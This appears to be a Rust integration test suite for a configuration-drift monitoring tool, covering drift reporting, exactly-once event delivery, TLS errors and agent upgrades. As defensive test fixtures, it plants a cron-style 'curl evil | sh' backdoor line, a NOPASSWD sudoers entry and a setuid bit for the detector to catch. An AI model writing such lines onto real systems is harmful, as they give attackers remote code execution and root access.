//! The fleet, end to end: real `driftwatch-collector serve`, real `driftwatch-agent run`
//! streaming to it over gRPC, real `driftwatch` CLI calls.

use std::fs;
use std::time::Duration;

use driftwatch_tests::{
    Collector, TestDir, assert_history_consistent, drift_paths, history, postgres_database,
};

const SETTLE: Duration = Duration::from_secs(30);

#[test]
fn an_edit_reaches_the_fleet_view_and_a_restore_resolves_it() {
    let t = TestDir::new();
    t.populate();
    let b = t.baseline();
    let c = Collector::start(&t.path().join("collector"));
    let _agent = t.start_agent(&b, &t.collector_config(&c, "i-0abc123"));
    c.wait_host_paths("i-0abc123", SETTLE, |p| p.is_empty());
    c.cli().args(["hosts", "--diverged"]).code(0);
    // Logged at the level DRIFTWATCH_LOG asks (info), plain text off a terminal.
    let log = c.log_text();
    assert!(log.contains("Agent connected"), "{log}");
    assert!(!log.contains('\x1b'), "color codes in a log file: {log:?}");

    let original = fs::read(t.at("/etc/ssh/sshd_config")).unwrap();
    t.write_by_rename(
        "/etc/ssh/sshd_config",
        "# sshd\nPermitRootLogin yes\nPasswordAuthentication no\n",
    );
    c.wait_host_paths("i-0abc123", SETTLE, |p| p == ["/etc/ssh/sshd_config"]);

    let out = c.cli().args(["host", "i-0abc123", "--json"]).ok();
    let detail: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(detail["host"], "i-0abc123");
    assert_eq!(detail["hostname"], "i-0abc123.test");
    let item = &detail["drift"][0];
    assert_eq!(item["kind"], "modified");
    assert_eq!(item["severity"], "security");
    let diff = item["diff"].as_str().expect("a diff");
    assert!(
        diff.contains("-PermitRootLogin no") && diff.contains("+PermitRootLogin yes"),
        "{diff}"
    );
    // The human form shows the diff too, and finds the host by its hostname.
    let human = c.cli().args(["host", "i-0abc123.test"]).ok();
    assert!(human.contains("+PermitRootLogin yes"), "{human}");

    let hosts = c.hosts();
    let h = &hosts[0];
    assert_eq!(hosts.as_array().unwrap().len(), 1, "{hosts:#}");
    assert_eq!(h["host"], "i-0abc123");
    assert_eq!(h["drift_count"], 1);
    assert_eq!(h["max_severity"], "security");
    assert_eq!(h["status"], "online");
    assert_eq!(h["image"], "test 1");
    let (_, report) = t.check_json(&b, &[]);
    assert_eq!(h["baseline_id"], report["baseline_id"]);
    assert!(h["last_seen"].as_str().unwrap().ends_with('Z'), "{h}");

    c.cli().args(["hosts", "--diverged"]).code(2);
    let filtered = c
        .cli()
        .args([
            "hosts",
            "--diverged",
            "--severity",
            "security",
            "--path",
            "/etc/ssh/**",
            "--json",
        ])
        .code(2);
    assert!(filtered.contains("i-0abc123"), "{filtered}");
    let elsewhere = c
        .cli()
        .args(["hosts", "--diverged", "--path", "/var/**", "--json"])
        .code(0);
    assert_eq!(elsewhere.trim(), "[]");

    let paths: serde_json::Value =
        serde_json::from_str(&c.cli().args(["paths", "--json"]).ok()).unwrap();
    assert_eq!(paths[0]["path"], "/etc/ssh/sshd_config");
    assert_eq!(paths[0]["hosts"], 1);
    // The JSON API answers the same.
    assert_eq!(c.api("/api/v1/hosts")["hosts"][0]["drift_count"], 1);

    t.write_by_rename("/etc/ssh/sshd_config", &original);
    c.wait_host_paths("i-0abc123", SETTLE, |p| p.is_empty());
    let events: Vec<(String, String)> = history(&c, "i-0abc123")
        .iter()
        .map(|e| {
            (
                e["event"].as_str().unwrap().to_owned(),
                e["path"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    assert_eq!(
        events,
        [
            ("drifted".to_owned(), "/etc/ssh/sshd_config".to_owned()),
            ("resolved".to_owned(), "/etc/ssh/sshd_config".to_owned()),
        ]
    );
    c.cli().args(["hosts", "--diverged"]).code(0);
}

#[test]
fn edits_made_while_the_collector_is_down_all_arrive_exactly_once() {
    let t = TestDir::new();
    t.populate();
    let b = t.baseline();
    let mut c = Collector::start(&t.path().join("collector"));
    let _agent = t.start_agent(&b, &t.collector_config(&c, "i-down"));
    c.wait_host_paths("i-down", SETTLE, |p| p.is_empty());
    c.kill9();
    for i in 0..500 {
        t.write(&format!("/etc/many/{i:03}.conf"), format!("v = {i}\n"));
    }
    // Some edited twice, some edited and removed again: transitions, not just end states.
    for i in 0..50 {
        t.write(
            &format!("/etc/many/{i:03}.conf"),
            format!("v = {i} again\n"),
        );
    }
    for i in 450..500 {
        fs::remove_file(t.at(&format!("/etc/many/{i:03}.conf"))).unwrap();
    }
    std::thread::sleep(Duration::from_secs(2));
    c.restart();
    let (_, report) = t.check_json(&b, &[]);
    let expected = drift_paths(&report);
    assert_eq!(expected.len(), 451, "450 files and their new directory");
    c.wait_host_paths("i-down", SETTLE, |p| p == expected);
    assert_history_consistent(&c, "i-down", &expected);
}

#[test]
fn agent_kill_9_mid_stream_then_restart_loses_and_duplicates_nothing() {
    let t = TestDir::new();
    t.populate();
    let b = t.baseline();
    let c = Collector::start(&t.path().join("collector"));
    let config = t.collector_config(&c, "i-kill");
    let mut agent = t.start_agent(&b, &config);
    c.wait_host_paths("i-kill", SETTLE, |p| p.is_empty());
    for i in 0..300 {
        t.write(&format!("/etc/burst/{i:03}.conf"), format!("v = {i}\n"));
        if i == 150 {
            agent.kill9();
        }
    }
    let _agent = t.start_agent(&b, &config);
    let (_, report) = t.check_json(&b, &[]);
    let expected = drift_paths(&report);
    assert_eq!(expected.len(), 301);
    c.wait_host_paths("i-kill", SETTLE, |p| p == expected);
    assert_history_consistent(&c, "i-kill", &expected);
}

#[test]
fn collector_kill_9_between_commit_and_ack_does_not_duplicate_history() {
    let t = TestDir::new();
    t.populate();
    let b = t.baseline();
    // The failpoint: the collector dies right after committing its first event batch, before
    // acknowledging it. The agent never hears the ack and sends the batch again.
    let mut c = Collector::start_with_env(
        &t.path().join("collector"),
        &[("DRIFTWATCH_FAILPOINT", "exit-after-commit")],
    );
    let _agent = t.start_agent(&b, &t.collector_config(&c, "i-failpoint"));
    t.write_by_rename("/etc/motd", "changed\n");
    t.write_by_rename("/etc/nginx/nginx.conf", "worker_processes 8;\n");
    c.wait_exit(SETTLE);
    assert!(
        c.log_text().contains("failpoint"),
        "the collector should have stopped at the failpoint:\n{}",
        c.log_text()
    );
    c.set_env(&[]);
    c.restart();
    let (_, report) = t.check_json(&b, &[]);
    let expected = drift_paths(&report);
    c.wait_host_paths("i-failpoint", SETTLE, |p| p == expected);
    assert_history_consistent(&c, "i-failpoint", &expected);
    let replayed = c
        .cli()
        .args(["history", "--host", "i-failpoint", "--json"])
        .ok();
    assert!(!replayed.is_empty());
}

#[test]
fn two_hosts_with_the_same_edit_share_one_cause() {
    let a = TestDir::new();
    let b = TestDir::new();
    for t in [&a, &b] {
        t.populate();
    }
    let (ba, bb) = (a.baseline(), b.baseline());
    let c = Collector::start(&a.path().join("collector"));
    let _agent_a = a.start_agent(&ba, &a.collector_config(&c, "i-aaaa"));
    let _agent_b = b.start_agent(&bb, &b.collector_config(&c, "i-bbbb"));
    for t in [&a, &b] {
        t.write_by_rename(
            "/etc/sudoers",
            "root ALL=(ALL:ALL) ALL\nops ALL=(ALL) NOPASSWD: ALL\n",
        );
    }
    a.write_by_rename("/etc/motd", "only on a\n");
    c.wait_host_paths("i-aaaa", SETTLE, |p| p.len() == 2);
    c.wait_host_paths("i-bbbb", SETTLE, |p| p == ["/etc/sudoers"]);
    let causes: serde_json::Value =
        serde_json::from_str(&c.cli().args(["causes", "--json"]).ok()).unwrap();
    let first = &causes[0];
    assert_eq!(first["path"], "/etc/sudoers", "{causes:#}");
    assert_eq!(first["host_count"], 2);
    assert_eq!(first["hosts"], serde_json::json!(["i-aaaa", "i-bbbb"]));
    assert_eq!(first["severity"], "security");
    assert_eq!(causes[1]["host_count"], 1);
    let human = c.cli().args(["causes", "--min-hosts", "2"]).ok();
    assert!(
        human.contains("2 hosts") && !human.contains("/etc/motd"),
        "{human}"
    );
    // --hosts caps the names, not the count.
    let capped: serde_json::Value = serde_json::from_str(
        &c.cli()
            .args(["causes", "--min-hosts", "2", "--hosts", "1", "--json"])
            .ok(),
    )
    .unwrap();
    assert_eq!(capped[0]["host_count"], 2, "{capped:#}");
    assert_eq!(capped[0]["hosts"], serde_json::json!(["i-aaaa"]));
    let human = c
        .cli()
        .args(["causes", "--min-hosts", "2", "--hosts", "1"])
        .ok();
    assert!(human.contains("i-aaaa and 1 more"), "{human}");
    let (status, body) = c.get("/api/v1/causes?min_hosts=2&max_hosts=1");
    assert_eq!(status, 200, "{body}");
    let api: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(
        api["causes"][0]["hosts"],
        serde_json::json!(["i-aaaa"]),
        "{api:#}"
    );
    assert_eq!(api["causes"][0]["host_count"], 2, "{api:#}");

    // The listing's order (more items first) and --limit: the rest is counted, not dropped
    // silently, and --diverged still exits 2.
    let listed = c
        .cli()
        .args(["hosts", "--diverged", "--limit", "1"])
        .code(2);
    assert!(
        listed.contains("i-aaaa") && !listed.contains("i-bbbb"),
        "{listed}"
    );
    assert!(listed.contains("1 more host matches"), "{listed}");
    let json: serde_json::Value =
        serde_json::from_str(&c.cli().args(["hosts", "--json", "--limit", "1"]).ok()).unwrap();
    assert_eq!(json.as_array().map(Vec::len), Some(1), "{json:#}");
}

#[test]
fn bad_input_gets_a_clear_error() {
    let t = TestDir::new();
    // A collector that is not there.
    let out = t
        .cmd("driftwatch")
        .args(["--collector", "http://127.0.0.1:1", "hosts"])
        .code(1);
    let _ = out;
    let err = t
        .cmd("driftwatch")
        .args(["--collector", "http://127.0.0.1:1", "hosts"])
        .stderr_with_code(1);
    assert!(err.contains("cannot reach the collector"), "{err}");
    let c = Collector::start(&t.path().join("collector"));
    let err = c
        .cli()
        .args(["hosts", "--severity", "dire"])
        .stderr_with_code(1);
    assert!(err.contains("unknown severity"), "{err}");
    let err = c.cli().args(["host", "i-nope"]).stderr_with_code(1);
    assert!(err.contains("no host"), "{err}");
    let err = c
        .cli()
        .args(["history", "--since", "yesterday-ish"])
        .stderr_with_code(1);
    assert!(err.contains("since"), "{err}");
    // Plaintext off loopback needs --insecure.
    let err = t
        .cmd("driftwatch-collector")
        .args(["serve", "--listen", "0.0.0.0:0", "--database"])
        .arg(t.path().join("x.db"))
        .stderr_with_code(1);
    assert!(err.contains("without TLS"), "{err}");
    let err = t
        .cmd("driftwatch-collector")
        .args(["serve", "--database", "postgres://nowhere.invalid/db"])
        .stderr_with_code(1);
    // A PostgreSQL server that cannot be reached is said so at start, not retried forever.
    assert!(
        err.contains("cannot connect to the PostgreSQL database postgres://nowhere.invalid/db"),
        "{err}"
    );
}

/// The whole path on PostgreSQL: an agent streams into a collector on a real PostgreSQL 15,
/// the collector dies (kill -9) and restarts, and every transition is stored exactly once.
#[test]
fn on_postgresql_edits_arrive_exactly_once_across_a_collector_kill_9() {
    let t = TestDir::new();
    t.populate();
    let b = t.baseline();
    let database = postgres_database();
    // `migrate` alone first (as a deploy pipeline would), then again: nothing left to do.
    let migrate = |expected: &str| {
        let out = std::process::Command::new(driftwatch_tests::bin("driftwatch-collector"))
            .args(["migrate", "--database", &database])
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(out.status.success() && err.contains(expected), "{err}");
    };
    migrate("migrations applied: 5");
    migrate("The database schema is up to date.\n");
    let mut c = Collector::start_on(&t.path().join("collector"), &database);
    let _agent = t.start_agent(&b, &t.collector_config(&c, "i-pg"));
    c.wait_host_paths("i-pg", SETTLE, |p| p.is_empty());
    t.write_by_rename("/etc/ssh/sshd_config", "# sshd\nPermitRootLogin yes\n");
    c.wait_host_paths("i-pg", SETTLE, |p| p == ["/etc/ssh/sshd_config"]);
    c.kill9();
    t.write_by_rename("/etc/motd", "changed\n");
    c.restart();
    let (_, report) = t.check_json(&b, &[]);
    let expected = drift_paths(&report);
    assert_eq!(expected.len(), 2, "{expected:?}");
    c.wait_host_paths("i-pg", SETTLE, |p| p == expected);
    assert_history_consistent(&c, "i-pg", &expected);
}

/// The Python interpreter with grpcio, grpcio-reflection and grpcio-health-checking (`.ci/run`
/// makes it), if there is one.
fn grpc_python() -> Option<std::path::PathBuf> {
    let candidate = std::env::var_os("DRIFTWATCH_TEST_PYTHON")
        .map(std::path::PathBuf::from)
        .unwrap_or_else(|| "/opt/driftwatch-venv/bin/python3".into());
    let ok = std::process::Command::new(&candidate)
        .args(["-c", "import grpc, grpc_reflection, grpc_health"])
        .output()
        .is_ok_and(|o| o.status.success());
    ok.then_some(candidate)
}

#[test]
fn a_stock_grpc_client_lists_checks_and_calls_through_reflection() {
    let python = grpc_python().expect(
        "no python with grpcio, grpcio-reflection and grpcio-health-checking in \
         /opt/driftwatch-venv (or DRIFTWATCH_TEST_PYTHON): run tests/setup.sh",
    );
    let t = TestDir::new();
    let (c, _agent) = t.fleet_of_one("i-python");
    let script = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("grpc_client.py");
    let mut child = std::process::Command::new(python)
        .arg(script)
        .arg(format!("127.0.0.1:{}", c.port))
        .arg("i-python")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("run python");
    // Once it follows the live feed, an edit it must see as a typed event.
    let mut stdout = std::io::BufReader::new(child.stdout.take().expect("stdout"));
    let mut first = String::new();
    std::io::BufRead::read_line(&mut stdout, &mut first).expect("read the client's output");
    assert!(
        first.contains("watching"),
        "the client did not start watching: {first:?}"
    );
    t.write_by_rename("/etc/nginx/nginx.conf", "worker_processes 4;\nevents {}\n");
    let mut rest = Vec::new();
    std::io::Read::read_to_end(&mut stdout, &mut rest).expect("read the client's output");
    let out = child.wait_with_output().expect("wait for python");
    let out = std::process::Output {
        stdout: rest,
        ..out
    };
    assert!(
        out.status.success(),
        "python client failed:\n{}",
        driftwatch_tests::describe(&out)
    );
    let answer: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON");
    let services = answer["services"].to_string();
    for s in [
        "driftwatch.v1.Fleet",
        "driftwatch.v1.Ingest",
        "grpc.health.v1.Health",
    ] {
        assert!(services.contains(s), "{s} not listed: {services}");
    }
    assert_eq!(
        answer["health"]["driftwatch.v1.Fleet"], "SERVING",
        "{answer:#}"
    );
    assert_eq!(answer["health"]["(server)"], "SERVING", "{answer:#}");
    assert_eq!(
        answer["hosts"]["hosts"][0]["host"], "i-python",
        "{answer:#}"
    );
    // Drift items are typed fields, not JSON text.
    let item = &answer["host"]["drift"][0]["file"];
    assert_eq!(item["path"], "/etc/motd", "{answer:#}");
    assert_eq!(item["kind"], "DRIFT_KIND_MODIFIED", "{answer:#}");
    let event = &answer["event"];
    assert_eq!(event["host"], "i-python", "{answer:#}");
    assert_eq!(event["event"], "drifted", "{answer:#}");
    let file = &event["item"]["file"];
    assert_eq!(file["path"], "/etc/nginx/nginx.conf", "{answer:#}");
    assert_eq!(file["kind"], "DRIFT_KIND_MODIFIED", "{answer:#}");
    assert!(
        file["changed"]
            .as_array()
            .is_some_and(|c| c.iter().any(|a| a == "ATTRIBUTE_CONTENT")),
        "{answer:#}"
    );
    assert_eq!(file["expected"]["type"], "FILE_TYPE_REGULAR", "{answer:#}");
    assert!(
        file["diff"]
            .as_str()
            .is_some_and(|d| d.contains("+worker_processes 4;")),
        "{answer:#}"
    );
}

/// Issue 12, part 7: a TLS failure says which side refused and why, naming the flag to change,
/// instead of "operation was canceled" or "transport error".
#[test]
fn tls_errors_say_which_side_refused_and_why() {
    let t = TestDir::new();
    t.populate();
    let b = t.baseline();
    let (pki, other) = (t.path().join("pki"), t.path().join("other-pki"));
    for dir in [&pki, &other] {
        driftwatch_tests::make_pki(dir, &[("client", "")]);
    }
    let p = |f: &str| pki.join(f).display().to_string();
    let c = Collector::start_with_args(
        &t.path().join("collector"),
        &[
            "--tls-cert",
            &p("server.pem"),
            "--tls-key",
            &p("server.key"),
            "--client-ca",
            &p("ca.pem"),
        ],
    );
    let fails = |cmd: driftwatch_tests::Cmd, want: &[&str]| {
        let err = cmd.args(["hosts"]).stderr_with_code(1);
        for w in want {
            assert!(err.contains(w), "{w:?} not in: {err}");
        }
        assert!(!err.contains("operation was canceled\n"), "{err}");
    };
    // No client certificate: under TLS 1.3 the collector's refusal may only show as a closed
    // connection; either way the message points at the missing certificate.
    fails(
        c.cli().env("DRIFTWATCH_CA", p("ca.pem")),
        &["client certificate", "mTLS", "--cert and --key"],
    );
    // The collector's certificate from another CA than --ca; no --ca at all.
    let other_ca = other.join("ca.pem").display().to_string();
    fails(
        c.cli()
            .env("DRIFTWATCH_CA", &other_ca)
            .env("DRIFTWATCH_CERT", p("client.pem"))
            .env("DRIFTWATCH_KEY", p("client.key")),
        &[
            "certificate is not trusted by --ca",
            &other_ca,
            "invalid peer certificate",
        ],
    );
    fails(c.cli(), &["not trusted", "no --ca given"]);
    // A client certificate from a CA the collector does not trust.
    fails(
        c.cli()
            .env("DRIFTWATCH_CA", p("ca.pem"))
            .env("DRIFTWATCH_CERT", other.join("client.pem"))
            .env("DRIFTWATCH_KEY", other.join("client.key")),
        &["client certificate", "--client-ca"],
    );
    // The URL names the collector by a name its certificate is not for.
    fails(
        c.cli()
            .env(
                "DRIFTWATCH_COLLECTOR",
                format!("https://localhost:{}", c.port),
            )
            .env("DRIFTWATCH_CA", p("ca.pem")),
        &["hostname mismatch", "localhost"],
    );
    // http:// to the TLS port; https:// to a plaintext one; nobody listening.
    fails(
        c.cli()
            .env(
                "DRIFTWATCH_COLLECTOR",
                format!("http://127.0.0.1:{}", c.port),
            )
            .env("DRIFTWATCH_CA", p("ca.pem")),
        &["speak TLS but the URL is http", "https://127.0.0.1"],
    );
    let plain = Collector::start(&t.path().join("plain"));
    fails(
        plain
            .cli()
            .env(
                "DRIFTWATCH_COLLECTOR",
                format!("https://127.0.0.1:{}", plain.port),
            )
            .env("DRIFTWATCH_CA", p("ca.pem")),
        &["speaks plaintext but the URL is https"],
    );
    // A collector whose certificate expired (signed with `openssl ca`, which can back-date).
    fs::write(
        pki.join("ca.cnf"),
        "[ca]\ndefault_ca = dw\n[dw]\ndatabase = index.txt\nnew_certs_dir = .\nserial = serial\n\
         default_md = sha256\npolicy = any\n[any]\ncommonName = supplied\n",
    )
    .unwrap();
    fs::write(pki.join("index.txt"), "").unwrap();
    fs::write(pki.join("serial"), "01\n").unwrap();
    let out = std::process::Command::new("openssl")
        .args([
            "ca", "-batch", "-notext", "-config", "ca.cnf", "-cert", "ca.pem",
        ])
        .args([
            "-keyfile",
            "ca.key",
            "-in",
            "server.csr",
            "-out",
            "expired.pem",
        ])
        .args([
            "-startdate",
            "20200101000000Z",
            "-enddate",
            "20200102000000Z",
        ])
        .args(["-extfile", "server.ext"])
        .current_dir(&pki)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", driftwatch_tests::describe(&out));
    let expired = Collector::start_with_args(
        &t.path().join("expired"),
        &[
            "--tls-cert",
            &p("expired.pem"),
            "--tls-key",
            &p("server.key"),
        ],
    );
    fails(
        expired.cli().env("DRIFTWATCH_CA", p("ca.pem")),
        &["certificate has expired", "renew"],
    );
    let port = driftwatch_tests::free_port();
    fails(
        plain
            .cli()
            .env("DRIFTWATCH_COLLECTOR", format!("http://127.0.0.1:{port}")),
        &["connection refused at 127.0.0.1:"],
    );

    // The agent says it too, in its log and its status, in its settings' names.
    let config = t.collector_config(&c, "i-0nocert") + &format!("ca = {:?}\n", p("ca.pem"));
    let agent = t.start_agent(&b, &config);
    let deadline = std::time::Instant::now() + SETTLE;
    loop {
        let last_error = agent.status()["collector"]["last_error"]
            .as_str()
            .unwrap_or_default()
            .to_owned();
        if last_error.contains("client certificate") {
            assert!(last_error.contains("collector.cert"), "{last_error}");
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "last_error: {last_error}\nlog:\n{}",
            agent.log_text()
        );
        std::thread::sleep(Duration::from_millis(200));
    }
    assert!(
        agent.log_text().contains("client certificate"),
        "{}",
        agent.log_text()
    );
}

/// The README's "run it" command: `driftwatch up`, on a test root, with its own data directory.
#[test]
fn up_runs_a_collector_and_an_agent_and_an_edit_shows_in_the_fleet_view() {
    let t = TestDir::new();
    t.populate();
    let port = driftwatch_tests::free_port();
    let url = format!("http://127.0.0.1:{port}");
    let stdout_path = t.path().join("up.out");
    let mut up = t.start_up(port, &[]);
    let cli = || {
        let mut c = std::process::Command::new(driftwatch_tests::bin("driftwatch"));
        c.env("DRIFTWATCH_COLLECTOR", &url);
        c
    };
    let host_paths = || -> Option<Vec<String>> {
        let out = cli().args(["host", "builder", "--json"]).output().ok()?;
        if !out.status.success() {
            return None;
        }
        let detail: serde_json::Value = serde_json::from_slice(&out.stdout).ok()?;
        Some(
            detail["drift"]
                .as_array()?
                .iter()
                .filter_map(|i| i["path"].as_str().map(str::to_owned))
                .collect(),
        )
    };
    let wait = |want: &[&str]| {
        let deadline = std::time::Instant::now() + SETTLE;
        loop {
            if let Some(paths) = host_paths()
                && paths == want
            {
                return;
            }
            assert!(
                std::time::Instant::now() < deadline,
                "`up` never showed {want:?}; stdout:\n{}\nstderr:\n{}",
                fs::read_to_string(&stdout_path).unwrap_or_default(),
                fs::read_to_string(t.path().join("up.err")).unwrap_or_default()
            );
            std::thread::sleep(Duration::from_millis(200));
        }
    };
    // The first run baselines the root as it is: nothing has drifted.
    wait(&[]);
    t.write_by_rename("/etc/motd", "changed under up\n");
    wait(&["/etc/motd"]);
    let printed = fs::read_to_string(&stdout_path).unwrap();
    assert!(printed.contains("driftwatch is up"), "{printed}");
    // The live feed prints the event too.
    let deadline = std::time::Instant::now() + SETTLE;
    while !fs::read_to_string(&stdout_path)
        .unwrap()
        .contains("/etc/motd")
    {
        assert!(std::time::Instant::now() < deadline, "no live feed line");
        std::thread::sleep(Duration::from_millis(100));
    }
    // The data directory `up` created, its database and the agent's state are private.
    let mode = |p: &str| {
        use std::os::unix::fs::PermissionsExt as _;
        fs::metadata(t.path().join(p)).unwrap().permissions().mode() & 0o7777
    };
    assert_eq!(mode("data"), 0o700);
    assert_eq!(mode("data/collector.db"), 0o600);
    assert_eq!(mode("data/agent"), 0o700);
    assert_eq!(mode("data/agent/agent.sock"), 0o600);
    let _ = up.kill();
    let _ = up.wait();
}

/// Issue 12, part 6: the database holds every host's diffs; its files are the collector's
/// alone whatever the umask, and one an older collector left world-readable is made private
/// at open, with one warning.
#[test]
fn the_database_files_are_private_and_a_world_readable_one_is_tightened() {
    use std::os::unix::fs::PermissionsExt as _;
    let t = TestDir::new();
    t.populate();
    let b = t.baseline();
    let dir = t.path().join("collector");
    fs::create_dir_all(&dir).unwrap();
    // SQLite makes an empty file a new database.
    fs::write(dir.join("collector.db"), "").unwrap();
    fs::set_permissions(dir.join("collector.db"), fs::Permissions::from_mode(0o644)).unwrap();
    let c = Collector::start(&dir);
    let _agent = t.start_agent(&b, &t.collector_config(&c, "i-0modes"));
    t.write_by_rename("/etc/motd", "diff content\n");
    c.wait_host_paths("i-0modes", SETTLE, |p| p == ["/etc/motd"]);
    for file in ["collector.db", "collector.db-wal", "collector.db-shm"] {
        let mode = fs::metadata(dir.join(file))
            .unwrap_or_else(|e| panic!("{file}: {e}"))
            .permissions()
            .mode();
        assert_eq!(mode & 0o7777, 0o600, "{file}");
    }
    let log = c.log_text();
    assert_eq!(
        log.matches("The database was readable by other users")
            .count(),
        1,
        "{log}"
    );
}

/// Copies a directory tree (files and directories only).
fn copy_tree(from: &std::path::Path, to: &std::path::Path) {
    fs::create_dir_all(to).unwrap();
    for entry in fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            copy_tree(&entry.path(), &target);
        } else {
            fs::copy(entry.path(), &target).unwrap();
        }
    }
}

/// An agent upgraded from 0.1 finds a spool of JSON records and a `ledger.json`, made by a real
/// 0.1 agent whose collector never answered (`tests/fixtures/agent-0.1/make.sh`): every event
/// in it reaches the collector, typed, with its original number, and the state is converted.
#[test]
fn a_spool_and_ledger_of_0_1_are_read_and_sent_after_the_upgrade() {
    let t = TestDir::new();
    t.populate();
    let b = t.baseline();
    // The edits the 0.1 agent saw, as make.sh made them.
    t.write_by_rename(
        "/etc/sudoers",
        "root ALL=(ALL:ALL) ALL\nmallory ALL=(ALL) NOPASSWD: ALL\n",
    );
    fs::remove_file(t.at("/etc/motd")).unwrap();
    t.chmod("/usr/bin/tool", 0o4755);
    t.write("/etc/ssh/backdoor", "* * * * * root curl evil | sh\n");
    let fixture = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/agent-0.1/state");
    let state = t.path().join("state");
    copy_tree(&fixture, &state);

    let c = Collector::start(&t.path().join("collector"));
    let agent = t.start_agent(&b, &t.collector_config(&c, "i-old"));
    let current = [
        "/etc/motd",
        "/etc/ssh/backdoor",
        "/etc/sudoers",
        "/usr/bin/tool",
    ];
    c.wait_host_paths("i-old", SETTLE, |p| p == current);
    let events = history(&c, "i-old");
    let seen: Vec<(u64, &str, &str)> = events
        .iter()
        .map(|e| {
            (
                e["seq"].as_u64().unwrap(),
                e["event"].as_str().unwrap(),
                e["path"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        seen,
        [
            (1, "drifted", "/etc/sudoers"),
            (2, "drifted", "/etc/motd"),
            (3, "drifted", "/usr/bin/tool"),
            (4, "drifted", "/etc/nginx/nginx.conf"),
            (5, "resolved", "/etc/nginx/nginx.conf"),
            (6, "drifted", "/etc/ssh/backdoor"),
        ],
        "every spooled event once, in order, with its number; nothing new\n{}",
        agent.log_text()
    );
    assert!(events.iter().all(|e| e["source"] == "stream"));
    assert_eq!(events[0]["item"]["severity"], "security");
    assert!(
        events[0]["item"]["diff"]
            .as_str()
            .is_some_and(|d| d.contains("+mallory ALL=(ALL) NOPASSWD: ALL")),
        "{:#}",
        events[0]
    );
    // The collector's set is `check`'s, and the agent's digest agrees with the collector's
    // (no snapshot was needed).
    let (_, check) = t.check_json(&b, &[]);
    let mut checked = drift_paths(&check);
    checked.sort();
    assert_eq!(checked, current);
    assert!(state.join("ledger.pb").exists());
    assert!(!state.join("ledger.json").exists(), "converted once");
    std::thread::sleep(Duration::from_secs(3));
    assert!(
        !c.log_text().contains("asking for a snapshot"),
        "the converted ledger's digest must match what the collector stored:\n{}",
        c.log_text()
    );
}
